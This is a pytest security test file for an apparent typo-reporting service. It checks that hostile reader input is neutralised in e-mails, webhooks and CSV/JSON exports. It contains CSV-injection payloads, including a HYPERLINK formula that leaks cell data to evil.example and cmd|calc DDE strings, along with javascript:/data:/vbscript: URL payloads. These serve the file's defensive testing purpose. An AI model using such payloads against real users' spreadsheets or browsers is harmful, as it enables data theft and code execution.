"""The hostile corpus through the Orphus endpoint, and out again through every output that shows a
reader's text to someone else: notification e-mails (HTML part), webhook bodies and exports.

The desk pages and the report API have their own tests (test_hostile_desk.py, test_hostile_api.py).
"""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from django.utils import timezone
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from tests.notify.conftest import Clock, drain
from tests.notify.receivers import HttpReceiver, SmtpServer
from tests.security.hostile import BAD_STRINGS, XSS, string_corpus
from typodesk.findings.models import Report
from typodesk.findings.services import Quote, record_report
from typodesk.findings.urlnorm import normalize_url
from typodesk.ingest.schemas import MAX_CONTEXT, MAX_URL
from typodesk.interchange.export import export_chunks
from typodesk.notify.content import MAX_LISTED, clean
from typodesk.text import normalize

pytestmark = pytest.mark.django_db(transaction=True)

PAGE = "https://news.example/story"
# A spreadsheet runs a cell that starts with one of these as a formula (OWASP "CSV injection").
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # Spreadsheets skip white space before a formula and read full-width signs as ASCII ones.
    ' =HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\n=1+1",
    "\r\n+1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    '＝HYPERLINK("http://evil.example/")',
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " \n ＝1+1",
    "﹦1+1",
]
JS_URLS = [
    "javascript:window.__pwned=100",
    "JaVaScRiPt:window.__pwned=101",
    " javascript:window.__pwned=102",
    "\tjava\nscript:window.__pwned=103",
    "\x01javascript:window.__pwned=104",
    "data:text/html,<script>window.__pwned=105</script>",
    "vbscript:msgbox(106)",
]
CORPUS = string_corpus() + FORMULAS
# Tags the e-mail template itself uses; anything else in a mail was injected.
MAIL_TAGS = {"html", "head", "meta", "title", "body", "h1", "div", "p", "span", "mark", "ins", "a", "br"}


def _bad_scheme(url: str) -> bool:
    # Browsers drop leading C0 controls and spaces, and tabs and newlines anywhere, before the scheme.
    squeezed = "".join(ch for ch in url if ord(ch) > 0x20).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:"))


def assert_inert_html(html: str) -> HTMLParser:
    """No script, no event handler, no javascript: link, no element the template does not make."""
    tree = HTMLParser(html)
    assert not tree.css("script")
    for node in tree.css("*"):
        assert node.tag in MAIL_TAGS, f"injected <{node.tag}>"
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on"), (node.tag, name)
            assert name.lower() not in ("srcdoc", "formaction", "http-equiv"), (node.tag, name)
            if name.lower() in ("href", "src", "action", "data", "background", "poster"):
                assert not _bad_scheme(value or ""), (node.tag, name, value)
    return tree


# --- Orphus ------------------------------------------------------------------------------------

ORPHUS_FIELDS = {
    "version": "5.01",
    "email": "editor@news.example",
    "to": "Orphus user",
    "subject": "Spelling mistake",
    "ref": PAGE,
    "c_pre": "It was the ",
    "c_sel": "teh",
    "c_suf": " best of times",
    "c_pos": "-1",
    "c_tag1": "<!!!>",
    "c_tag2": "<!!!>",
    "charset": "utf-8",
    "comment": "a comment",
}


@pytest.fixture
def orphus_site(make_site, settings):
    settings.TYPODESK_RATE_BURST = settings.TYPODESK_SITE_RATE_BURST = 10**9
    return make_site(domains=["news.example"])


def orphus_post(client, field: str, value: str):
    fields = {**ORPHUS_FIELDS, field: value}
    # A lone surrogate is sent as the invalid UTF-8 a broken page would send.
    body = urlencode(fields, encoding="utf-8", errors="surrogatepass").encode()
    return client.post("/orphus", body, content_type="application/x-www-form-urlencoded")


def check_orphus_answer(r, value: str) -> None:
    assert r.status_code in (200, 400, 403, 413), (r.status_code, r.content[:300])
    assert r["Content-Type"] == "text/html; charset=utf-8"
    page = r.content.decode("utf-8")
    assert "<script" not in page.lower()
    if "<" in value:
        assert value not in page
    tree = HTMLParser(page)
    assert not tree.css("script, img, svg, iframe, a, form, object, base, style, link")
    for node in tree.css("*"):
        assert not any(name.lower().startswith("on") for name in node.attributes)


def test_orphus_every_hostile_string_in_every_field(client, orphus_site):
    tried = stored = 0
    for field in ORPHUS_FIELDS:
        values = CORPUS + BAD_STRINGS
        if field == "ref":  # as the page's address, and inside a real address of the site
            inside = [PAGE + "?q=" + v for v in CORPUS]
            values = values + [u for u in inside if len(normalize_url(u)) <= MAX_URL] + JS_URLS
        for value in values:
            before = Report.objects.count()
            r = orphus_post(client, field, value)
            assert r.status_code != 503, (field, value, r.content)
            check_orphus_answer(r, value)
            tried += 1
            if r.status_code != 200:
                assert Report.objects.count() == before
                continue
            stored += 1
            report = Report.objects.order_by("-pk").first()
            assert Report.objects.count() == before + 1
            if field == "comment":
                assert report.comment == value.strip()
            elif field == "ref":
                assert report.url == value and value.startswith(PAGE)
            elif field == "c_sel":
                assert report.exact == normalize(value)  # normalized as canonical text (documented)
            elif field == "c_pre":
                assert len(report.prefix) <= 32 and normalize(value + "x")[:-1].endswith(report.prefix)
            elif field == "c_suf":
                assert len(report.suffix) <= 32 and normalize("x" + value)[1:].startswith(report.suffix)
            else:  # fields the old script sends for orphus.ru's mail, ignored here
                assert (report.exact, report.comment, report.url) == ("teh", "a comment", PAGE)
    assert tried >= len(ORPHUS_FIELDS) * len(CORPUS)
    assert stored > len(CORPUS) * 5  # most hostile text is a fine report
    # Every hostile comment that is more than white space was taken, not refused.
    for value in CORPUS:
        if value.strip():
            assert Report.objects.filter(comment=value.strip()).exists(), value


def test_a_long_address_whose_normalized_form_is_too_long(client, orphus_site):
    from typodesk.findings.models import Page

    url = PAGE + "?q=" + "ə" * 1000  # 1,031 characters; 6,031 once normalized
    assert len(url) <= MAX_URL < len(normalize_url(url))
    answers = [orphus_post(client, "ref", url).status_code]
    quote = {"exact": "teh", "prefix": "", "suffix": "", "start": 0, "end": 3}
    body = json.dumps({"site": orphus_site.public_key, "url": url, "quote": quote})
    try:
        answers.append(client.post("/api/v1/reports", body, content_type="application/json").status_code)
    except Exception as exc:  # the test client re-raises what became a 500
        answers.append(repr(exc))
    stored = [len(u) for u in Page.objects.values_list("url", flat=True)]
    assert all(a in (400, 413) for a in answers) or (set(answers) <= {200, 201} and max(stored) <= MAX_URL), (
        answers,
        stored,
    )


# --- Notifications and exports -----------------------------------------------------------------


@pytest.fixture
def owner(make_user):
    return make_user("owner@news.example")


@pytest.fixture
def site(make_site, owner):
    return make_site(name="News Example", domains=["news.example"], members=[(owner, "owner")])


def sent_reports(site, only: range | None = None) -> list[dict]:
    """One report per hostile string: the string in the quote, its context, the suggestion,
    the comment, the page title and the page's address; then javascript: page addresses."""
    out = []
    for i, s in enumerate(CORPUS + JS_URLS):
        if only is not None and i not in only:
            continue
        hostile_url = i >= len(CORPUS)
        sent = {
            # As much as the report API takes (a page address whose normalized form is longer than
            # MAX_URL is a known bug: test_a_long_address_whose_normalized_form_is_too_long).
            "url": s if hostile_url else f"{PAGE}/{i}?q={s[:300]}",
            "title": s[:500],
            "exact": f"{s} {i}" if hostile_url else s,
            "prefix": s[-MAX_CONTEXT:],  # the most context the report API takes
            "suffix": s[:MAX_CONTEXT],
            "suggestion": s,
            "comment": s,
        }
        start = 10_000 * i
        quote = Quote(sent["exact"], sent["prefix"], sent["suffix"], start, start + len(sent["exact"]))
        rest = {k: sent[k] for k in ("url", "title", "suggestion", "comment")}
        recorded = record_report(site, quote=quote, **rest)
        assert not recorded.duplicate
        out.append({**sent, "finding": recorded.finding.pk, "page_url": recorded.finding.page.url})
    return out


@pytest.fixture
def deliver(settings):
    """Deliver the hostile reports in groups of MAX_LISTED (what one mail lists in full)."""
    from typodesk.notify.delivery import Deliverer, Policy

    settings.BASE_URL = "https://desk.example"
    clock = Clock()
    deliverer = Deliverer(
        worker_id="hostile", policy=Policy(group_window=timedelta(0)), clock=clock, rng=random.Random(7)
    )

    def run(site) -> list[dict]:
        sent: list[dict] = []
        for start in range(0, len(CORPUS + JS_URLS), MAX_LISTED):
            sent.extend(sent_reports(site, range(start, start + MAX_LISTED)))
            clock.now = timezone.now() + timedelta(seconds=1)
            drain(deliverer)
        return sent

    return run


def make_channel(site, owner, kind, target):
    from typodesk.notify.models import Channel, Subscription, new_webhook_secret

    extra = {"secret": new_webhook_secret()} if kind == "webhook" else {}
    return Channel.objects.create(
        site=site, kind=kind, name=f"{kind} channel", target=target, events=list(Subscription.values),
        created_by=owner, **extra,
    )  # fmt: skip


@pytest.fixture
def smtp(settings):
    server = SmtpServer().start()
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_HOST_USER = "127.0.0.1", server.port, ""
    settings.EMAIL_USE_TLS = settings.EMAIL_USE_SSL = False
    settings.EMAIL_TIMEOUT = 5
    settings.DEFAULT_FROM_EMAIL = "typodesk@desk.example"
    yield server
    server.stop()


@pytest.fixture
def receiver(settings):
    settings.TYPODESK_ALLOW_PRIVATE_TARGETS = True  # the receiver listens on 127.0.0.1
    r = HttpReceiver().start()
    yield r
    r.stop()


def texts(tree: HTMLParser, selector: str) -> set[str]:
    return {node.text(deep=True) for node in tree.css(selector)}


def test_notification_mails_show_hostile_text_as_text(site, owner, smtp, deliver):
    make_channel(site, owner, "email", "editor@news.example")
    sent = deliver(site)
    assert len(smtp.mails) == -(-len(sent) // MAX_LISTED)
    marks, ins, links, spans, paragraphs = set(), set(), set(), set(), set()
    for mail in smtp.mails:
        assert mail.rcpt_tos == ["editor@news.example"]
        msg = mail.message
        assert msg["Bcc"] is None and "\n" not in msg["Subject"] and "\r" not in msg["Subject"]
        tree = assert_inert_html(mail.part("text/html"))
        marks |= texts(tree, "mark")
        ins |= texts(tree, "ins")
        spans |= texts(tree, "p > span")
        paragraphs |= texts(tree, "p")
        for a in tree.css("a"):
            links.add((a.attributes.get("href"), a.text(deep=True)))
    hrefs = {href for href, _ in links}
    for s in sent:
        # What the mail shows is the reader's text, control characters and bidi overrides out,
        # long text shortened (documented in docs/notifications.md); markup stays text.
        exact = clean(s["exact"], one_line=True, limit=300)
        assert exact in marks, s["exact"]
        assert clean(s["suggestion"], one_line=True, limit=300) in ins
        assert "…" + clean(s["prefix"], one_line=True, strip=False) in spans
        assert clean(s["suffix"], one_line=True, strip=False) + "…" in spans
        comment = clean(s["comment"], limit=500).strip()
        assert "Comment: " + comment.replace("\n", "") in paragraphs
        title = clean(s["title"], one_line=True, limit=200)
        if s["url"].startswith(PAGE):
            # The page's (normalized) address is a link, the title its text.
            assert (s["page_url"], title) in links
        else:
            assert s["url"] not in hrefs and any(p.startswith("Page: " + title) for p in paragraphs)
    for s in XSS:  # no markup was dropped or rewritten on the way: it is all there, as text
        assert clean(s, one_line=True) == s and s in marks and s in ins


def test_webhook_bodies_carry_exactly_what_readers_sent(site, owner, receiver, deliver):
    make_channel(site, owner, "webhook", receiver.url + "/hook")
    sent = deliver(site)
    events = []
    for req in receiver.received():
        assert req.headers["content-type"] == "application/json"
        body = json.loads(req.body.decode("utf-8"))  # valid JSON, valid UTF-8
        events.extend(body["data"]["events"] if body["type"] == "batch" else [body])
    by_finding = {e["data"]["finding"]["id"]: e["data"] for e in events}
    assert len(by_finding) == len(events) == len(sent)
    for s in sent:
        data = by_finding[s["finding"]]
        f, report = data["finding"], data["report"]
        assert (f["exact"], f["prefix"], f["suffix"]) == (s["exact"], s["prefix"], s["suffix"])
        assert (report["url"], report["suggestion"], report["comment"]) == (
            s["url"],
            s["suggestion"],
            s["comment"],
        )
        assert data["page"]["title"] == s["title"]


def export(site, fmt) -> str:
    return "".join(export_chunks(site, fmt))


def test_json_export_round_trips_hostile_text(site):
    sent = {s["finding"]: s for s in sent_reports(site)}
    doc = json.loads(export(site, "json"))
    assert len(doc["findings"]) == len(sent)
    for f in doc["findings"]:
        s = sent[f["id"]]
        q = f["quote"]
        assert (q["exact"], q["prefix"], q["suffix"], f["title"]) == (
            s["exact"],
            s["prefix"],
            s["suffix"],
            s["title"],
        )
        [r] = f["reports"]
        assert (r["url"], r["suggestion"], r["comment"]) == (s["url"], s["suggestion"], s["comment"])


TEXT_COLUMNS = ["url", "title", "exact", "prefix", "suffix", "suggestions", "comments", "note"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What spreadsheets read as these signs (full-width and small forms).
LOOK_ALIKES = {"＝": "=", "＋": "+", "－": "-", "＠": "@", "﹦": "=", "﹢": "+", "﹣": "-", "﹫": "@"}


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run the cell: a formula sign first, after any white space."""
    if cell.startswith(FORMULA_START):
        return True
    rest = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff").lstrip()
    return bool(rest) and LOOK_ALIKES.get(rest[0], rest[0]) in FORMULA_START[:4]


def test_csv_export_parses_back_and_runs_no_formula(site):
    sent = {s["finding"]: s for s in sent_reports(site)}
    pages = {f["id"]: f["url"] for f in json.loads(export(site, "json"))["findings"]}  # normalized
    text = export(site, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(sent)
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not runs(row[column]), (column, row[column])
        s = sent[int(row["id"])]
        for column, value in [
            ("url", pages[int(row["id"])]), ("title", s["title"]), ("exact", s["exact"]), ("prefix", s["prefix"]),
            ("suffix", s["suffix"]), ("suggestions", s["suggestion"]), ("comments", s["comment"]),
        ]:  # fmt: skip
            # Exactly the reader's text; a cell a spreadsheet would run gets a leading "'" (docs/export.md).
            expected = "'" + value if runs(value) else value
            assert row[column] == expected, (column, value)
    neutralised = [
        row for row in rows if row["comments"].startswith("'") and sent[int(row["id"])]["comment"] in FORMULAS
    ]
    assert len(neutralised) == len(FORMULAS)
